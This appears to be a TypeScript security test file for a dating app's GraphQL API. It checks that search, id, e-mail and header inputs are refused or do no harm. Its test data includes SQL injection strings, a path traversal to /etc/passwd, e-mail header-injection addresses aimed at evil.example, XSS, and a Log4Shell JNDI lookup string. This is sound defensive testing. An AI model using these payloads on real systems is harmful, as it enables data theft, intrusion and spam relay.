import { LEGAL_VERSIONS } from '../../src/accounts/index.js';
import { as, ask, refusal, send } from '../client.js';
import { drain, theHouse, useHouse } from '../harness.js';
import { aMan, aPerson, aSubscribedWoman, PASSWORD, type Person } from '../people.js';
import { stored } from '../stored.js';

/** Words that hope to be taken for a part of a statement, a pattern, a header or a page. What people write is kept as it is: `proof/texts`. */
useHouse();

const SQL = [
  `' OR true --`,
  `'; DROP TABLE users; --`,
  `1) UNION SELECT password_hash FROM users --`,
  `\\' OR 1=1`,
  '$1',
  `%' AND pg_sleep(5) --`,
];
const PATTERNS = ['%', '_', '%%%', '\\', '.*', '(a+)+$', '*:*', '{{7*7}}', '${7*7}'];

let lea: Person;
beforeAll(async () => {
  lea = await aSubscribedWoman();
  await aMan();
});
beforeEach(() => theHouse().app.db.query('DELETE FROM rate_limits'));

describe('a search', () => {
  it.each([...SQL, ...PATTERNS])(
    'for %j is for the letters and digits in it: at most a page of towns, never all that match a pattern',
    async (search) => {
      const { cities } = await ask<{ cities: object[] }>('query ($search: String!) { cities(search: $search) { code } }', { search });
      expect(cities.length).toBeLessThanOrEqual(/\w/.test(search.replaceAll('_', '')) ? 10 : 0);
    },
  );

  it.each([...SQL, ...PATTERNS])('of men in the place %j is refused or empty, never wider', async (code) => {
    for (const filter of [{ cityCode: code }, { regionCode: code }, { interests: [code] }]) {
      const { errors, data } = await as(lea).send<{ men: { edges: object[] } }>(
        'query ($filter: MenFilter!) { men(filter: $filter) { edges { node { id } } } }',
        { filter },
      );
      expect([filter, errors?.[0]?.extensions.code ?? data?.men.edges]).toEqual([filter, errors ? 'BAD_USER_INPUT' : []]);
    }
  });

  it.each([...SQL, 'bnVsbA==', '0', '-1', 'eyJpZCI6MX0'])('that goes on after %j goes nowhere', async (after) => {
    for (const list of [
      'men(filter: {}, after: $after)',
      'conversations(after: $after)',
      'myReports(after: $after)',
      'blockedPeople(after: $after)',
    ])
      expect(await as(lea).refusal(`query ($after: String) { ${list} { pageInfo { endCursor } } }`, { after })).toBe('BAD_USER_INPUT');
  });
});

describe('an id', () => {
  it.each([...SQL, '00000000-0000-0000-0000-000000000000; DELETE FROM users', '{"$ne":null}', '../../etc/passwd'])(
    'that is %j is none, and nothing moves',
    async (id) => {
      const before = await stored();
      for (const call of ['man(id: $id) { id }', 'conversation(id: $id) { id }', 'media(id: $id) { id }'])
        expect(await as(lea).refusal(`query ($id: ID!) { ${call} }`, { id })).toBe('BAD_USER_INPUT');
      expect(await as(lea).refusal('mutation ($id: ID!) { block(userId: $id) }', { id })).toBe('BAD_USER_INPUT');
      expect(await as(lea).refusal('mutation ($id: ID!) { endSession(id: $id) }', { id })).toBe('BAD_USER_INPUT');
      expect(await stored()).toEqual(before);
    },
  );
});

describe('an address of e-mail', () => {
  const REQUEST = 'mutation ($email: String!) { requestPasswordReset(email: $email) { resetId } }';
  const SIGN_UP = 'mutation ($input: SignUpInput!) { signUp(input: $input) { signUpId } }';

  it.each([
    'a@b.fr\r\nBcc: everybody@evil.example',
    'a@b.fr\nSubject: Gagné',
    'a@b.fr, everybody@evil.example',
    'a@b.fr;c@evil.example',
    '"a\r\nBcc: x"@b.fr',
    'a@b.fr\u0000@evil.example',
    'a@b.fr%0d%0aBcc:c@evil.example',
    '<script>@b.fr',
    'Léa <lea@evil.example>',
    'group:a@b.fr,c@evil.example;',
    `'||(SELECT password_hash FROM users LIMIT 1)||'@b.fr`,
  ])('that is %j gets no mail, and sends nobody else one', async (email) => {
    const before = theHouse().mailbox.messages().length;
    const versions = { termsVersion: LEGAL_VERSIONS.terms, privacyVersion: LEGAL_VERSIONS.privacy };
    expect(await refusal(REQUEST, { email })).toBe('BAD_USER_INPUT');
    expect(await refusal(SIGN_UP, { input: { role: 'MAN', email, password: PASSWORD, birthDate: '1990-01-01', ...versions } })).toBe(
      'BAD_USER_INPUT',
    );
    await drain();
    expect(theHouse().mailbox.messages()).toHaveLength(before);
  });

  it.each([
    ['with capitals and spaces around', (email: string) => ` ${email.toUpperCase()} `],
    ['in the letters of another alphabet', (email: string) => email.replace('premierpas', 'premıerpas').replace('k', '\u212a')],
  ])('that looks like hers, %s, brings its code to her own address or to nobody', async (_what, lookalike) => {
    const mia = await aPerson('WOMAN', { email: 'kim.k@test.premierpas.example', emailKey: 'kim.k@test.premierpas.example' });
    await send(REQUEST, { email: lookalike('kim.k@test.premierpas.example') });
    await drain();
    const strangers = theHouse()
      .mailbox.messages()
      .filter(({ to, subject }) => /mot de passe/.test(subject) && !JSON.stringify(to).includes('kim.k@test.premierpas.example'));
    expect(strangers).toEqual([]);
    await theHouse().app.db.query('DELETE FROM sessions WHERE user_id = $1', [mia.id]);
    await theHouse()
      .app.db.query('DELETE FROM users WHERE id = $1', [mia.id])
      .catch(() => undefined);
  });
});

describe('a header', () => {
  it('of a browser that lies about its name shows nothing of that to her', async () => {
    const nina = await aPerson('WOMAN');
    const agent = '<script>alert(1)</script> Firefox/1 \u00e9 ${jndi:ldap://evil.example/a}';
    const SIGN_IN = 'mutation ($input: SignInInput!) { signIn(input: $input) { accessToken } }';
    await ask(SIGN_IN, { input: { email: nina.email, password: PASSWORD } }, { headers: { 'user-agent': agent } });
    const { sessions } = await as(nina).ask<{ sessions: { device: string }[] }>('{ sessions { device } }');
    expect(sessions.map(({ device }) => device).sort()).toEqual(['Firefox', 'Firefox, Linux']);
  });

  it.each([`10.0.0.1' OR true --`, '10.0.0.1, 10.0.0.2', 'x'.repeat(5_000), '::ffff:999.1.1.1', '<script>'])(
    'that names the address %j is counted, and harms nobody',
    async (address) => {
      const { data } = await send(
        '{ legalVersions { terms } cities(search: "lyon") { code } }',
        {},
        { headers: { 'x-forwarded-for': address } },
      );
      expect(data).toHaveProperty('cities');
    },
  );
});
